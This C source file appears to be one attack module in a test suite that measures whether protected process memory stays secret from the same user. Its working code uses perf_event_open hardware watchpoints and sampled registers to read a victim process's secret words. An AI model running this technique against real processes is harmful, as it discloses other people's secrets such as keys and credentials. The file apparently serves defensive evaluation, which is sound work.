/* SPDX-License-Identifier: MIT */

/*
 * Watching what the process does with its memory. A watchpoint interrupts the process when it loads a word, and the
 * kernel records registers for whoever set it. perf_event_open(2) gives a plain user watchpoints on their own
 * processes, and does not stop these. So memory that nobody else can read is known once the process reads it.
 */

#include "attack/families.h"
#include "attack/raw.h"
#include "attack/scene.h"
#include "attack/victims.h"
#include "lib/util.h"

#ifdef __x86_64__

# include <asm/perf_regs.h>
# include <linux/hw_breakpoint.h>
# include <linux/perf_event.h>
# include <poll.h>
# include <stdio.h>

/* A processor has so many watchpoints. */
# define WORDS 4

# define PATIENCE_MS 1000

static const struct scene *used;

/* The attacker knows the program, and so the register. */
static void load_words(int signal)
{
	const uint64_t *words = (const uint64_t *)(const void *)used->data;

	(void)signal;
	memory_reveal(used->memory);
	for (size_t i = 0; i < WORDS; i++)
		__asm__ volatile("movq %0, %%rax" : : "m"(words[i]) : "rax");
}

/* The program uses its secret when somebody asks it for something. */
static int load_on_request(struct scene *scene)
{
	const struct sigaction action = { .sa_handler = load_words, .sa_flags = SA_RESTART };

	used = scene;
	return sys_sigaction(SIGUSR1, &action, NULL);
}

static bool is_refused_to_users(void)
{
	FILE *setting = fopen("/proc/sys/kernel/perf_event_paranoid", "re");
	int value = 0;

	if (setting == NULL)
		return false;
	if (fscanf(setting, "%d", &value) != 1)
		value = 0;
	(void)fclose(setting);
	return value > 2;
}

static int set_watchpoint(const struct scene *scene, size_t word)
{
	struct perf_event_attr watch = {
		.type = PERF_TYPE_BREAKPOINT,
		.size = sizeof(watch),
		.sample_period = 1,
		.wakeup_events = 1,
		.sample_type = PERF_SAMPLE_REGS_USER,
		.sample_regs_user = 1 << PERF_REG_X86_AX,
		.exclude_kernel = 1,
		.bp_type = HW_BREAKPOINT_RW,
		.bp_addr = (uintptr_t)scene->data + word * sizeof(uint64_t),
		.bp_len = HW_BREAKPOINT_LEN_8,
	};

	return (int)attempt(SYS_perf_event_open, &watch, scene->pid, -1, -1, PERF_FLAG_FD_CLOEXEC);
}

/* Where the kernel puts the samples of a watchpoint. The process of the attacker ends with the attack, and it with
 * that process. */
static long map_samples(const struct scene *scene, int fd)
{
	return attempt_map(NULL, 2 * scene->page, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0L);
}

static bool read_sample(const char *samples, const struct scene *scene, uint64_t *ret)
{
	const struct perf_event_mmap_page *state = (const void *)samples;
	const struct {
		struct perf_event_header header;
		uint64_t abi, register_value;
	} *sample = (const void *)(samples + scene->page);

	if (__atomic_load_n(&state->data_head, __ATOMIC_ACQUIRE) < sizeof(*sample) ||
	    sample->header.type != PERF_RECORD_SAMPLE)
		return false;
	*ret = sample->register_value;
	return true;
}

static int set_watchpoints(const struct scene *scene, struct pollfd *last, long samples[WORDS])
{
	for (size_t i = 0; i < WORDS; i++) {
		last->fd = set_watchpoint(scene, i);
		samples[i] = last->fd < 0 ? last->fd : map_samples(scene, last->fd);
		if (samples[i] < 0)
			return (int)samples[i];
	}
	return 0;
}

static int watch_loads(struct scene *scene)
{
	struct pollfd last = { .events = POLLIN };
	uint64_t loot[WORDS];
	long samples[WORDS];
	int err = set_watchpoints(scene, &last, samples);

	if (err == -EACCES && is_refused_to_users())
		return not_applicable(scene, "kernel.perf_event_paranoid refuses it");
	if (err == 0)
		err = refusal(attempt(SYS_kill, scene->pid, SIGUSR1));
	if (err < 0)
		return err;
	(void)poll(&last, 1, PATIENCE_MS);
	for (size_t i = 0; i < WORDS; i++)
		if (!read_sample(pointer(samples[i]), scene, &loot[i]))
			return not_applicable(scene, "this machine has no watchpoints");
	steal(scene, loot, sizeof(loot));
	return 0;
}

#else

static int load_on_request(struct scene *scene)
{
	(void)scene;
	return 0;
}

static int watch_loads(struct scene *scene)
{
	return not_applicable(scene, "x86-64 only");
}

#endif

static const struct attack rows[] = {
	{
		.name = "perf-watch",
		.summary = "set watchpoints, read the registers into which it loads the memory",
		.target = TARGET_SECRECY,
		.vantage = VANTAGE_SAME_USER,
		.syscalls = "perf_event_open, mmap",
		.before = load_on_request,
		.run = watch_loads,
		.gaps = GAP_ANY,
		.gap_reason = "the process loads the bytes into its registers, and who may watch "
			      "the process can read them",
	},
};

FAMILY(watch, rows);
